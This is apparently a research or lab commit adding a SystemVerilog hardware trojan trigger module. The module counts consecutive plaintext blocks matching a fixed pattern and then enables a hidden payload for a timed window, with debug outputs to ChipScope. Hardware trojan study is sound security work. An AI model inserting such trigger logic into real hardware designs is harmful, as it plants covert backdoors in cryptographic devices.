trojan_trigger_sequencer: RTL

- Consumes the single-bit match from the 32-bit plaintext pattern comparator and decides when the trojan payload is activated.
- Counts consecutive plaintext blocks whose pattern matches. When the count reaches a programmed target, asserts a payload enable for a fixed window, then enters a holdoff period.
- Sits between the plaintext-capture register / comparator and the payload logic. Status outputs are routed to the ChipScope debug core.

---
 rtl/trojan_trigger_sequencer.sv | 130 +++++++++++++
 1 files changed

// File: rtl/trojan_trigger_sequencer.sv
// Trigger sequencer: counts consecutive matching plaintext blocks, fires the payload
// enable for a fixed window once the target is reached, then waits out a holdoff.
module trojan_trigger_sequencer #(
  parameter int MATCH_TARGET   = 3,
  parameter int FIRE_CYCLES    = 16,
  parameter int HOLDOFF_CYCLES = 64,
  parameter int CNT_W          = 8
) (
  input  logic             clk,
  input  logic             rst_n,
  input  logic             pt_valid,
  input  logic             match_in,
  input  logic             clear,
  output logic             payload_en,
  output logic             armed,
  output logic [CNT_W-1:0] match_cnt,
  output logic [CNT_W-1:0] fire_total,
  output logic [1:0]       state_dbg
);

  typedef enum logic [1:0] {
    IDLE    = 2'd0,
    COUNT   = 2'd1,
    FIRE    = 2'd2,
    HOLDOFF = 2'd3
  } state_t;

  localparam logic [CNT_W-1:0] ONE       = CNT_W'(1);
  localparam logic [CNT_W-1:0] TARGET    = CNT_W'(MATCH_TARGET);
  localparam logic [CNT_W-1:0] FIRE_LOAD = CNT_W'(FIRE_CYCLES - 1);
  localparam logic [CNT_W-1:0] HOLD_LOAD = CNT_W'((HOLDOFF_CYCLES > 0) ? HOLDOFF_CYCLES - 1 : 0);

  state_t           state, state_nxt;
  logic [CNT_W-1:0] timer, timer_nxt;
  logic [CNT_W-1:0] cnt_nxt, total_nxt;
  logic             en_nxt;

  function automatic logic [CNT_W-1:0] sat_inc(input logic [CNT_W-1:0] v);
    return (v == {CNT_W{1'b1}}) ? v : v + ONE;
  endfunction

  always_comb begin
    state_nxt = state;
    timer_nxt = timer;
    cnt_nxt   = match_cnt;
    total_nxt = fire_total;
    en_nxt    = payload_en;
    if (clear) begin
      state_nxt = IDLE;
      timer_nxt = '0;
      cnt_nxt   = '0;
      en_nxt    = 1'b0;
    end else begin
      case (state)
        IDLE: begin
          if (pt_valid && match_in) begin
            cnt_nxt = ONE;
            if (TARGET == ONE) begin
              state_nxt = FIRE;
              en_nxt    = 1'b1;
              timer_nxt = FIRE_LOAD;
            end else begin
              state_nxt = COUNT;
            end
          end
        end
        COUNT: begin
          if (pt_valid) begin
            if (match_in) begin
              cnt_nxt = match_cnt + ONE;
              if (match_cnt + ONE == TARGET) begin
                state_nxt = FIRE;
                en_nxt    = 1'b1;
                timer_nxt = FIRE_LOAD;
              end
            end else begin
              // A non-matching valid block breaks the consecutive run.
              cnt_nxt   = '0;
              state_nxt = IDLE;
            end
          end
        end
        FIRE: begin
          if (timer == '0) begin
            en_nxt    = 1'b0;
            total_nxt = sat_inc(fire_total);
            cnt_nxt   = '0;
            if (HOLDOFF_CYCLES == 0) begin
              state_nxt = IDLE;
            end else begin
              state_nxt = HOLDOFF;
              timer_nxt = HOLD_LOAD;
            end
          end else begin
            timer_nxt = timer - ONE;
          end
        end
        HOLDOFF: begin
          if (timer == '0) begin
            state_nxt = IDLE;
          end else begin
            timer_nxt = timer - ONE;
          end
        end
        default: state_nxt = IDLE;
      endcase
    end
  end

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      state      <= IDLE;
      timer      <= '0;
      match_cnt  <= '0;
      fire_total <= '0;
      payload_en <= 1'b0;
      armed      <= 1'b0;
    end else begin
      state      <= state_nxt;
      timer      <= timer_nxt;
      match_cnt  <= cnt_nxt;
      fire_total <= total_nxt;
      payload_en <= en_nxt;
      armed      <= (state_nxt == COUNT);
    end
  end

  assign state_dbg = state;

endmodule
